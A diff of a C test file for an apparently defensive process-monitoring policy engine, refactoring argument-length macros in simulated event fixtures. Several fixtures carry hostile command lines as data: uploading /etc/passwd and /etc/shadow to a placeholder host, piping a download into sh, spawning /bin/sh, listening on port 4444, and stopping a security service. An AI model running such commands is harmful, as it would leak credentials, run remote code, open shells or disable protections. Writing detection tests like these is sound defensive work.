@@ -253,6 +253,10 @@ struct evspec {
 
 #define EXEC(pid_, exe_, argv_, len_, ...)                                                         \
 	{ .pid = (pid_), .exe = (exe_), .argv = (argv_), .argv_len = (len_), __VA_ARGS__ }
+/* A string literal of NUL-separated arguments and its length (its last NUL included). */
+#define LIT(s) (s), (sizeof(s) - 1)
+#define EXECL(pid_, exe_, lit_, ...)                                                               \
+	{ .pid = (pid_), .exe = (exe_), .argv = (lit_), .argv_len = sizeof(lit_) - 1, __VA_ARGS__ }
 #define OPEN(pid_, path_, ...) { .type = SG_EV_OPEN, .pid = (pid_), .path = (path_), __VA_ARGS__ }
 #define FILEV(type_, path_, ...) { .type = (type_), .pid = 20, .path = (path_), __VA_ARGS__ }
 #define NET(type_, addr_, port_, proto_, ...)                                                      \
@@ -439,25 +443,25 @@ static const struct vcase vcases[] = {
 		"  - {id: nam, events: [exec], match: {proc.name: {suffix: .EXE, nocase: true}}, "
 		"action: log}\n",
 	.j = {
-		{ EXEC(99, "/usr/bin/git", "git\0clone\0https://x/Log4Shell-EXPLOIT\0", 38), "con" },
-		{ EXEC(99, "/usr/bin/git", "git\0clone\0https://x/exploit\0", 28), "con" },
-		{ EXEC(99, "/usr/bin/pwsh", "pwsh\0-VERSION\0", 14), "arg" },
+		{ EXECL(99, "/usr/bin/git", "git\0clone\0https://x/Log4Shell-EXPLOIT\0"), "con" },
+		{ EXECL(99, "/usr/bin/git", "git\0clone\0https://x/exploit\0"), "con" },
+		{ EXECL(99, "/usr/bin/pwsh", "pwsh\0-VERSION\0"), "arg" },
 		/* a whole argument: -versionx is not -version */
-		{ EXEC(99, "/usr/bin/pwsh", "pwsh\0-versionx\0", 15), "-" },
-		{ EXEC(99, "/usr/bin/echo", "echo\0\xc3\xa9t\xc3\xa9\0", 11), "utf8" },
-		{ EXEC(99, "/usr/bin/curl", "curl\0-T\0--upload-file\0", 22), "rei" },
-		{ EXEC(99, "/usr/bin/echo", "echo\0STRASSE1\0", 14), "-" },
-		{ EXEC(99, "/usr/bin/echo", "echo\0STRAßE1\0", 14), "reu" },
+		{ EXECL(99, "/usr/bin/pwsh", "pwsh\0-versionx\0"), "-" },
+		{ EXECL(99, "/usr/bin/echo", "echo\0\xc3\xa9t\xc3\xa9\0"), "utf8" },
+		{ EXECL(99, "/usr/bin/curl", "curl\0-T\0--upload-file\0"), "rei" },
+		{ EXECL(99, "/usr/bin/echo", "echo\0STRASSE1\0"), "-" },
+		{ EXECL(99, "/usr/bin/echo", "echo\0STRAßE1\0"), "reu" },
 		/* without nocase the case counts */
-		{ EXEC(99, "/usr/bin/echo", "echo\0Secret\0", 12), "cased" },
-		{ EXEC(99, "/usr/bin/echo", "echo\0SECRET\0", 12), "-" },
+		{ EXECL(99, "/usr/bin/echo", "echo\0Secret\0"), "cased" },
+		{ EXECL(99, "/usr/bin/echo", "echo\0SECRET\0"), "-" },
 		{ OPEN(20, "/etc/passwd"), "in" },
 		{ OPEN(20, "/etc/passwdx"), "-" },
 		{ OPEN(20, "/home/bob/.bash_HISTORY"), "glob" },
 		{ OPEN(20, "/DATA/x"), "pre" },
 		/* 'not' inside a nocase mapping is nocase too */
 		{ OPEN(20, "/DATA/OK"), "-" },
-		{ EXEC(99, "/opt/x/SETUP.exe", "x\0", 2), "nam" },
+		{ EXECL(99, "/opt/x/SETUP.exe", "x\0"), "nam" },
 	},
 },
 {
@@ -467,12 +471,12 @@ static const struct vcase vcases[] = {
 		"  - {id: root, events: [exec], match: {proc.user: root}, action: alert}\n"
 		"  - {id: named, events: [exec], match: {proc.user: {glob: '*'}}, action: log}\n",
 	.j = {
-		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(0)), "root" },
+		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "root" },
 		/* again: from the cache */
-		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(0)), "root" },
-		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(65534)), "named" },
+		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "root" },
+		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(65534)), "named" },
 		/* a uid without a name has no proc.user */
-		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(4000000000u)), "-" },
+		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(4000000000u)), "-" },
 	},
 },
 {
@@ -506,7 +510,7 @@ static const struct vcase vcases[] = {
 		{ EXEC(99, "/usr/bin/other", "x\0", 2, .no_exe = true, .comm = "socat"), "name" },
 		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(7)), "uid" },
 		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(10)), "-" },
-		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(0)), "uid" },
+		{ EXECL(99, "/usr/bin/true", "x\0", .uid = SET(0)), "uid" },
 		{ EXEC(99, "/usr/bin/true", "x\0", 2, .gid = SET(42)), "gid" },
 		{ EXEC(777, "/usr/bin/true", "x\0", 2), "pid" },
 		{ EXEC(778, "/usr/bin/true", "x\0", 2, .ppid = SET(10)), "ppid" },
@@ -1302,7 +1306,7 @@ static void test_all_match(void **state)
 	assert_int_equal(policy_rule_info(p, 3, &ri), 0);
 	assert_int_equal(ri.hits, 1);
 	/* the allow rule decides when nothing before it held */
-	ev = ev_exec(99, "/usr/bin/wget", "wget\0--quiet\0", 14);
+	ev = ev_exec(99, "/usr/bin/wget", LIT("wget\0--quiet\0"));
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "quiet");
 	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
@@ -1353,7 +1357,7 @@ static void test_index(void **state)
 	assert_int_equal(ix->indexed, 8);
 	assert_int_equal(ix->nalways, 3); /* any, mid, half */
 	/* a1: n1, n2, n3 and half under its name; any and mid judged too */
-	ev = ev_exec(99, "/usr/bin/a1", "a1\0zz\0", 6);
+	ev = ev_exec(99, "/usr/bin/a1", LIT("a1\0zz\0"));
 	ev.proc.uid = 7;
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "half");
@@ -1362,20 +1366,20 @@ static void test_index(void **state)
 				 "n3/log/info");
 	/* folded names: /usr/bin/CURL is a candidate for the nocase suffix and for
 	 * proc.name CURL; /usr/bin/curl only holds the nocase one */
-	ev = ev_exec(99, "/usr/bin/CURL", "CURL\0", 5);
+	ev = ev_exec(99, "/usr/bin/CURL", LIT("CURL\0"));
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "n4");
 	matches_str(&ev.verdict, buf, sizeof(buf));
 	assert_string_equal(buf, "n8/log/info");
-	ev = ev_exec(99, "/usr/bin/curl", "curl\0", 5);
+	ev = ev_exec(99, "/usr/bin/curl", LIT("curl\0"));
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "n4");
 	assert_int_equal(ev.verdict.nmatches, 0);
 	/* suffix globs and exact paths name programs too; a name no rule has */
-	ev = ev_exec(99, "/x/d5", "d5\0", 3);
+	ev = ev_exec(99, "/x/d5", LIT("d5\0"));
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "n5");
-	ev = ev_exec(99, "/usr/bin/zzz", "zzz\0", 4);
+	ev = ev_exec(99, "/usr/bin/zzz", LIT("zzz\0"));
 	ev.proc.uid = 8;
 	policy_eval_lineage(p, &ev, NULL);
 	assert_string_equal(ev.verdict.rule_id, "half");
@@ -1407,15 +1411,13 @@ static void test_index_same_verdicts(void **state)
 		"/usr/bin/dd", "/usr/sbin/auditctl", "/usr/bin/nmap", "/tmp/x/sh", "/opt/a b/zz",
 		"/usr/bin/busybox", "/usr/bin/find", "/usr/bin/perl", "/usr/bin/ssh",
 	};
-#define ARGV(s) { s, sizeof(s) - 1 }
 	static const struct { const char *a; size_t n; } argvs[] = {
-		ARGV("x\0"), ARGV("x\0-F\0f=@/etc/passwd\0http://h/\0"),
-		ARGV("x\0clone\0https://h/Log4Shell-exploit\0"),
-		ARGV("x\0-e\0/bin/sh\0"), ARGV("x\0--upload-file\0/etc/shadow\0"),
-		ARGV("x\0stop\0kesl\0"), ARGV("x\0-c\0curl http://h | sh\0"),
-		ARGV("x\0-l\0-p\0" "4444\0"),
+		{ LIT("x\0") }, { LIT("x\0-F\0f=@/etc/passwd\0http://h/\0") },
+		{ LIT("x\0clone\0https://h/Log4Shell-exploit\0") },
+		{ LIT("x\0-e\0/bin/sh\0") }, { LIT("x\0--upload-file\0/etc/shadow\0") },
+		{ LIT("x\0stop\0kesl\0") }, { LIT("x\0-c\0curl http://h | sh\0") },
+		{ LIT("x\0-l\0-p\0" "4444\0") },
 	};
-#undef ARGV
 	char path[4200], dir[4096], a[2048], b[2048];
 	struct policy_diag d;
 	struct policy *p = NULL;
